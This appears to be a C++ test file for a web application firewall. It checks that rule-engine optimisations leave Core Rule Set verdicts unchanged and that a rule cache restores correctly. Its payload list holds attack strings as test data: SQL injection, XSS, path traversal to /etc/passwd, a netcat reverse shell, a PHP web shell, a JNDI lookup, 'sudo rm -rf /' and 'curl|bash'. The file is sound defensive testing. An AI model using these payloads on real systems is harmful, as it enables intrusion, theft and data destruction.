// The optimisations change nothing: every request gives the same matches, in the same order, with the same
// texts, whether values are scanned ahead or not, whether forms are kept or not. Held to stock CRS with a
// corpus of attacks in every place of a request, and mutations of them.

#include <unistd.h>

#include <filesystem>
#include <random>
#include <span>

#include "rules/match_re.h"
#include "rules/program.h"
#include "rules/requirement.h"
#include "tests/unit/rules_core/waf.h"

namespace weir::rules::testing {
namespace {

const std::vector<std::string> kPayloads = {
    "1' or '1'='1", "1 union select null,null--", "1; drop table users", "sleep(5)#", "' and 1=0 --",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
    "<svg/onload=alert`1`>", "../../../../etc/passwd", "..%2f..%2fetc%2fshadow", "/etc/passwd%00",
    "c:\\windows\\system32\\cmd.exe", "; cat /etc/passwd", "$(id)", "`whoami`", "| nc -e /bin/sh 1.2.3.4 9",
    "http://evil.example/shell.txt?", "php://filter/convert.base64-encode", "<?php system($_GET[c]); ?>",
    "${jndi:ldap://x/a}", "{{7*7}}", "%{(#a=@java.lang.Runtime@getRuntime())}", "() { :;}; echo x",
    "Set-Cookie: a=b\r\nX: y", "O:8:\"stdClass\":0:{}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    "constructor.prototype", "require('child_process')", "&#60;script&#62;", "\\x3cscript\\x3e",
    "%u003cscript%u003e", "select * from information_schema.tables", "benchmark(1000000,md5(1))",
    "waitfor delay '0:0:5'", "1/**/or/**/1=1", "admin'--", "order by 10", "xp_cmdshell", "load_file('/x')",
    "hello world", "12345", "john.doe@example.com", "The quick brown fox jumps", "a", "",
    "https://www.example.com/path?x=y&z=1", "2023-01-01T00:00:00Z", "caf\xc3\xa9", "\xff\xfe\x00x",
    "SELECT name FROM users WHERE id=1 AND password LIKE '%a%'", "cmd=ls+-la", "sudo rm -rf /",
    "powershell -enc AAAA", "wget http://x/y", "curl|bash", "/bin/bash -i", "passwd", ".htaccess",
    "WEB-INF/web.xml", ".git/config", "sqlmap/1.0", "nikto", "x=1&x=2&x=3", "a;b;c", "[1,2,3]"};

std::string percent(std::string_view s) {
  static const char* const kHex = "0123456789abcdef";
  std::string out;
  for (const char c : s) {
    const auto b = static_cast<std::uint8_t>(c);
    out += '%';
    out += kHex[b >> 4];
    out += kHex[b & 15];
  }
  return out;
}

constexpr int kPlaces = 9;

Request place(const std::string& payload, int where) {
  Request r = get("/index.php?page=1");
  switch (where) {
    case 0: r.target = "/?id=" + percent(payload); break;
    case 1: r.target = "/?" + percent(payload) + "=1"; break;
    case 2: r.target = "/dir/" + percent(payload); break;
    case 3: r.header("Cookie", "session=" + payload); break;
    case 4: r.header("User-Agent", payload).header("Referer", payload); break;
    case 5: r = form("a=1&b=" + percent(payload)); break;
    case 6: r = post("application/json", "{\"k\":\"" + payload + "\"}"); break;
    case 7: r = post("text/xml", "<a b='x'>" + payload + "</a>"); break;
    default:
      r = post("multipart/form-data; boundary=b",
               "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"" + payload +
                   "\"\r\n\r\n" + payload + "\r\n--b--\r\n");
  }
  r.response_body = where == 0 ? payload : "";
  return r;
}

std::string outcome(Waf& waf, const Request& r) {
  waf.run(r);
  std::string out;
  for (const Match& m : waf.transaction().matches()) {
    out += std::to_string(m.rule_id) + "|" + std::string(m.message) + "|" + std::string(m.data) + "|" +
           std::string(m.target) + "|" + std::string(m.value) + "\n";
  }
  const Decision& d = waf.transaction().decision();
  out += std::to_string(static_cast<int>(d.kind)) + " " + std::to_string(d.rule_id) + "\n";
  out += waf.tx("anomaly_score") + " " + waf.tx("inbound_anomaly_score_pl1");
  return out;
}

std::vector<Source> crs3(int level = 4) {
  const std::string setup = "/etc/modsecurity/crs/crs-setup.conf";
  const std::string rules = "/usr/share/modsecurity-crs/rules";
  if (!std::filesystem::exists(setup) || !std::filesystem::exists(rules)) return {};
  return {Source::memory(
      "base.conf",
      "SecRuleEngine DetectionOnly\nSecRequestBodyAccess On\nSecResponseBodyAccess On\nInclude " +
          setup +
          "\nSecAction \"id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level=" + std::to_string(level) + "\"\n"
          "SecRule REQUEST_HEADERS:Content-Type \"@contains json\" "
          "\"id:900001,phase:1,nolog,pass,ctl:requestBodyProcessor=JSON\"\n"
          "SecRule REQUEST_HEADERS:Content-Type \"@contains xml\" "
          "\"id:900002,phase:1,nolog,pass,ctl:requestBodyProcessor=XML\"\nInclude " +
          rules + "/*.conf\n")};
}

std::string mutated(std::string s, std::mt19937& random) {
  const std::size_t times = random() % 4;
  for (std::size_t i = 0; i < times; ++i) {
    const std::size_t at = s.empty() ? 0 : random() % s.size();
    switch (random() % 5) {
      case 0: s.insert(at, 1, static_cast<char>(random() % 256)); break;
      case 1: if (!s.empty()) s.erase(at, 1); break;
      case 2: s += kPayloads[random() % kPayloads.size()]; break;
      case 3: if (!s.empty()) s[at] = static_cast<char>(s[at] ^ 0x20); break;
      default: s.insert(at, " /**/"); break;
    }
  }
  return s;
}

struct Switch {
  const char* name;
  bool Optimisations::*off;
};
constexpr Switch kSwitches[] = {
    {"prefilter", &Optimisations::prefilter},   {"classes", &Optimisations::classes},
    {"pieces", &Optimisations::pieces},         {"all_texts", &Optimisations::all_texts},
    {"unchanged", &Optimisations::unchanged},
    {"hyperscan", &Optimisations::hyperscan},   {"transform_cache", &Optimisations::transform_cache},
    {"injection", &Optimisations::injection},     {"levels", &Optimisations::levels},
    {"recurring", &Optimisations::recurring},     {"numbers", &Optimisations::numbers},
    {"linear", &Optimisations::linear},         {"foregone", &Optimisations::foregone},
    {"whole", &Optimisations::whole},           {"listed", &Optimisations::listed},
    {"hopeful", &Optimisations::hopeful},       {"hurdles", &Optimisations::hurdles},
};

Optimisations all_off() {
  Optimisations none;
  for (const Switch& s : kSwitches) none.*s.off = false;
  none.pieces_per_look = 0;
  return none;
}

// Everything switched on, and all but each of the switches, against nothing switched on.
TEST(Differential, OptimisationsChangeNoVerdictOfCrs) {
  const auto sources = crs3();
  if (sources.empty()) GTEST_SKIP() << "CRS 3 is not installed";
  LoadOptions options;
  options.optimisations = all_off();
  Waf plain(sources, options);
  LOADED(plain);
  Waf fast(sources, {});
  LOADED(fast);
  std::vector<std::unique_ptr<Waf>> others;
  for (const Switch& s : kSwitches) {
    options.optimisations = {};
    options.optimisations.*s.off = false;
    options.scanners_later = true;  // they take seconds, and have a test of their own
    others.push_back(std::make_unique<Waf>(sources, options));
    LOADED(*others.back());
  }
  // Selections of pieces: none, and each at once.
  for (const unsigned pieces_per_look : {0U, UINT_MAX}) {
    options.optimisations = {};
    options.optimisations.pieces_per_look = pieces_per_look;
    others.push_back(std::make_unique<Waf>(sources, options));
    LOADED(*others.back());
  }
  std::mt19937 random(7);
  std::size_t matching = 0;
  std::uint64_t fast_work = 0;
  std::uint64_t plain_work = 0;
  for (int round = 0; round < 2; ++round) {
    for (const std::string& payload : kPayloads) {
      const std::string p = round == 0 ? payload : mutated(payload, random);
      for (int where = 0; where < kPlaces; ++where) {
        const Request r = place(p, where);
        const std::string want = outcome(plain, r);
        ASSERT_EQ(outcome(fast, r), want) << p << " in place " << where;
        for (std::size_t i = 0; i < others.size(); ++i) {
          ASSERT_EQ(outcome(*others[i], r), want)
              << p << " in place " << where << " without " << (i < std::size(kSwitches) ? kSwitches[i].name : "selections, or with");
        }
        fast_work += fast.transaction().work();
        plain_work += plain.transaction().work();
        if (want.find("942") != std::string::npos || want.find("941") != std::string::npos) ++matching;
      }
    }
  }
  EXPECT_GT(matching, 100U);
  EXPECT_LT(fast_work, plain_work);
}

// The same below the highest level, where most rules are jumped over.
TEST(Differential, NorAtLowerLevels) {
  for (const int level : {1, 2, 3}) {
    const auto sources = crs3(level);
    if (sources.empty()) GTEST_SKIP() << "CRS 3 is not installed";
    LoadOptions options;
    options.optimisations = all_off();
    Waf plain(sources, options);
    LOADED(plain);
    options.optimisations = {};
    options.scanners_later = true;
    Waf fast(sources, options);
    LOADED(fast);
    for (const std::string& payload : kPayloads) {
      for (int where = 0; where < kPlaces; ++where) {
        const Request r = place(payload, where);
        ASSERT_EQ(outcome(fast, r), outcome(plain, r)) << payload << " in place " << where << ", level " << level;
      }
    }
  }
}

// Contract of the requirements: whatever they rule out, the operator does not match.
TEST(Differential, RequirementsNeverRuleOutAMatch) {
  const auto sources = crs3();
  if (sources.empty()) GTEST_SKIP() << "CRS 3 is not installed";
  LoadOptions none;
  none.optimisations.prefilter = false;
  Waf waf(sources, none);
  LOADED(waf);
  struct Known {
    const Link* link;
    Requirement requirement;
  };
  std::vector<Known> all;
  std::size_t useful = 0;
  for (const Link& link : waf.rules()->program().links) {
    if (link.op == nullptr || link.op_has_macros) continue;
    all.push_back({&link, requirement_of(*link.op)});
    const Requirement& r = all.back().requirement;
    if (link.op->regex() != nullptr && (!r.bytes.empty() || !r.texts.empty())) ++useful;
  }
  EXPECT_GT(useful, 200U);
  ReScratch scratch;
  base::Arena arena;
  std::mt19937 random(11);
  std::size_t ruled_out = 0;
  std::size_t asked = 0;
  for (int i = 0; i < 2000; ++i) {
    std::string s = mutated(kPayloads[random() % kPayloads.size()], random);
    if (random() % 4 == 0) s = all[random() % all.size()].link->op_argument.substr(0, 80);
    for (const Known& k : all) {
      ++asked;
      if (holds(k.requirement, s)) continue;
      ++ruled_out;
      OperatorContext context{scratch, arena, k.link->op_argument};
      ASSERT_FALSE(k.link->op->match(s, context)) << k.link->op_argument << " on " << s;
    }
    arena.reset();
  }
  EXPECT_GT(ruled_out, asked / 4);
}

std::string base64(std::string_view text) {
  base::Arena arena;
  return std::string(apply(Transform::Base64Encode, text, arena, nullptr).value);
}

// A rule for each pair of an operator and a chain of transformations.
std::string rules_of(std::span<const std::string_view> operators, std::span<const std::string_view> chains) {
  std::string rules = "SecRuleEngine DetectionOnly\nSecRequestBodyAccess On\n";
  int id = 1;
  for (const std::string_view chain : chains) {
    for (const std::string_view op : operators) {
      rules += "SecRule ARGS|ARGS_NAMES \"" + std::string(op) + "\" \"id:" + std::to_string(id++) + ",phase:2,pass,log,t:none," +
               std::string(chain) + "\"\n";
    }
  }
  return rules;
}

// Holds rules with these chains to what they say with all optimisations off, for values that are encoded in base64 up to twice. So many
// of the 4,000 have to match.
void expect_same_of_decoded(std::span<const std::string_view> operators, std::span<const std::string_view> chains, std::size_t least = 500) {
  const std::string rules = rules_of(operators, chains);
  LoadOptions options;
  options.optimisations = all_off();
  Waf plain({Source::memory("r.conf", rules)}, options);
  LOADED(plain);
  Waf fast({Source::memory("r.conf", rules)}, {});
  LOADED(fast);
  const std::vector<std::string> texts = {"constructor.proto", "f(x)", "require('a')", "\xd1\xd2z", "%63onstructor.\\x70roto",
                                          "/* */passwd", "1 union select a from b", "ab", "select a/*b*/from c", "YWI=", "",
                                          "order group time", "x order by 1 and 2", "student", "\xc3\xa9z\xe2z", "+(a)",
                                          "pass\\wd", "re\\quire", "(a\\z)", "constructor.+proto", "(\\a)", "pass\\\\wd", "(x\\)", "sele\\ct+from",
                                          "%28a%29", "\\u0028z)", "pass%5cwd", "(b%\\29", "select+from"};
  std::mt19937 random(29);
  std::size_t matched = 0;
  for (int i = 0; i < 4000; ++i) {
    std::string value = texts[random() % texts.size()];
    if (random() % 2 == 0) value = mutated(value, random);
    // Also further behind than what is told without decoding.
    if (i % 16 == 0) value.insert(0, std::string(i % 1300, 'k'));
    for (std::size_t k = random() % 3; k > 0; --k) value = base64(value);
    for (std::size_t k = random() % 3; k > 0 && !value.empty(); --k) {
      constexpr std::string_view kBetween[] = {" ", "\t", "\xa0", "/**/", "=", "%20", "\n"};
      value.insert(random() % value.size(), kBetween[random() % std::size(kBetween)]);
    }
    const Request r = form("a=" + percent(value) + "&" + percent(value.substr(0, 20)) + "=b");
    const std::string want = outcome(plain, r);
    matched += want.size() > 30 ? 1 : 0;
    ASSERT_EQ(outcome(fast, r), want) << value;
  }
  EXPECT_GT(matched, least);
}

// What is said of decoded values without making them, of words without asking libinjection, and of values that no form
// of a multiMatch rule can match: chains close to those of CRS 4, which must not be taken for them.
TEST(Differential, DecodedValuesAndWords) {
  constexpr std::string_view kChains[] = {
      "t:base64Decode", "t:urlDecodeUni,t:jsDecode,t:base64Decode,t:urlDecodeUni,t:jsDecode,multiMatch",
      "t:urlDecodeUni,t:removeWhitespace,t:base64Decode,t:jsDecode,t:removeWhitespace", "t:lowercase,t:base64Decode",
      "t:removeWhitespace,t:replaceComments,t:base64Decode", "t:base64Decode,t:replaceComments,t:lowercase,multiMatch",
      "t:base64Decode,t:base64Decode", "t:base64Decode,t:utf8toUnicode", "t:compressWhitespace,t:base64Decode,t:cmdLine",
      "t:utf8toUnicode,t:urlDecodeUni,t:removeNulls,multiMatch"};
  constexpr std::string_view kOperators[] = {"@rx constructor[.]\\s*proto", "@rx [(]\\w+[)]", "@rx ^$", "@pm require passwd ab",
                                             "@rx [\\x80-\\xff]{2}z", "@detectSQLi", "@rx select.+from"};
  expect_same_of_decoded(kOperators, kChains);
}

// Those of CRS 4 themselves, with operators that all need a piece of text: where nothing is encoded behind base64 the text is
// known to the end.
TEST(Differential, DecodedValuesUnderTheChainsOfCrs4) {
  constexpr std::string_view kChains[] = {
      "t:urlDecodeUni,t:jsDecode,t:removeWhitespace,t:base64Decode,t:urlDecodeUni,t:jsDecode,t:removeWhitespace,multiMatch",
      "t:urlDecodeUni,t:jsDecode,t:base64Decode,t:urlDecodeUni,t:jsDecode,multiMatch"};
  constexpr std::string_view kOperators[] = {"@rx constructor[.]\\s*proto", "@rx [(]z[)]|[(]a", "@pm require passwd", "@rx select from"};
  expect_same_of_decoded(kOperators, kChains);
}

// Operators that all need a sign: where what is decoded has none of these, and nothing that is decoded once more, nothing is looked
// for; where it has an escape of one, it must be.
TEST(Differential, DecodedValuesThatLackASign) {
  constexpr std::string_view kChains[] = {"t:urlDecodeUni,t:jsDecode,t:base64Decode,t:urlDecodeUni,t:jsDecode",
                                          "t:urlDecodeUni,t:jsDecode,t:removeWhitespace,t:base64Decode,t:urlDecodeUni,t:jsDecode"};
  constexpr std::string_view kParentheses[] = {"@rx [(]z[)]|[(]a", "@rx [(]\\w+[)]"};
  constexpr std::string_view kBoth[] = {"@rx [.].{0,2}roto", "@rx [(]a"};
  expect_same_of_decoded(kParentheses, kChains, 100);
  expect_same_of_decoded(kBoth, kChains, 100);
}

// Patterns whose matches may hold a short piece of text only, and longer ones where quotes, parentheses or slashes are absent: a
// value in which only the short one is must not be passed over.
TEST(Differential, ShortPiecesAndLongOnes) {
  constexpr std::string_view kOperators[] = {
      "@rx (?i)\\biif\\s*\\(|union\\s+select|['\\x22]\\s*or\\b", "@rx (?i)[/\\x5c]\\.\\.[/\\x5c]|0x2f0x2e|%2f\\.\\.",
      "@rx (?i)^if\\b|\\bas\\b.{0,3}\\bfrom\\b|xp_cmdshell", "@rx (?i)on\\w{2,4}\\s*=|javascript:", "@pm or if union",
      "@rx (?i)\\bid\\b[;|&]|whoami", "@rx (?i)[$`]\\(?ls\\b|\\bcat\\s+/etc", "@rx a.b|['\\x22]as['\\x22]|select.as"};
  constexpr std::string_view kTransforms[] = {"t:none", "t:lowercase,t:urlDecodeUni", "t:removeWhitespace", "t:base64Decode,t:removeWhitespace"};
  const std::string rules = rules_of(kOperators, kTransforms);
  LoadOptions options;
  options.optimisations = all_off();
  Waf plain({Source::memory("short.conf", rules)}, options);
  LOADED(plain);
  Waf fast({Source::memory("short.conf", rules)}, {});
  LOADED(fast);
  const char* const parts[] = {"iif", "(", " (", "union", " select", "or", "'", "\"", "/", "..", "0x2f", "0x2e", "%2f", "if", "as", "from", " ",
                               "onload", "=", "id", ";", "ls", "$", "cat /etc", "a", "b", "x", "json.", "word", "7", ".", "LzIuLi8=", "aWlmKA"};
  std::mt19937 random(23);
  std::size_t matched = 0;
  for (int i = 0; i < 4000; ++i) {
    std::string value;
    for (std::size_t k = 0; k < 1 + random() % 6; ++k) value += parts[random() % std::size(parts)];
    const Request r = form("a=" + percent(value) + "&" + percent(value) + "=b");
    const std::string want = outcome(plain, r);
    ASSERT_EQ(outcome(fast, r), want) << value;
    matched += want.size() > 30 ? 1U : 0U;
  }
  EXPECT_GT(matched, 500U);
}

TEST(Cache, RestoresDatabasesAndIgnoresDamage) {
  namespace fs = std::filesystem;
  const auto sources = crs3();
  if (sources.empty()) GTEST_SKIP() << "CRS 3 is not installed";
  const fs::path dir = fs::temp_directory_path() / ("weir-cache-test-" + std::to_string(::getpid()));
  fs::create_directory(dir);
  LoadOptions options;
  options.cache_directory = dir.string();
  Waf cold(sources, options);
  LOADED(cold);
  EXPECT_EQ(cold.rules()->scanner_stats().restored, 0U);
  Waf warm(sources, options);
  LOADED(warm);
  EXPECT_GT(warm.rules()->scanner_stats().restored, 0U);
  EXPECT_EQ(warm.rules()->scanners_missing(), 0U);
  EXPECT_EQ(warm.rules()->scanner_stats().patterns, cold.rules()->scanner_stats().patterns);
  const Request r = place(kPayloads[0], 0);
  EXPECT_EQ(outcome(warm, r), outcome(cold, r));
  std::size_t files = 0;
  for (const auto& entry : fs::directory_iterator(dir)) {
    // Every file is damaged in its own way.
    std::FILE* f = std::fopen(entry.path().c_str(), "r+b");
    ASSERT_NE(f, nullptr);
    if (files % 2 == 0) {
      std::fseek(f, static_cast<long>(fs::file_size(entry.path()) / 2), SEEK_SET);
      std::fputc('!', f);
      std::fputc('?', f);
    }
    std::fclose(f);
    if (files % 2 == 1) fs::resize_file(entry.path(), fs::file_size(entry.path()) / 3);
    ++files;
  }
  EXPECT_GT(files, 0U);
  Waf again(sources, options);
  LOADED(again);
  EXPECT_EQ(again.rules()->scanner_stats().restored, 0U);
  EXPECT_EQ(outcome(again, r), outcome(cold, r));
  fs::remove_all(dir);
}

}  // namespace
}  // namespace weir::rules::testing
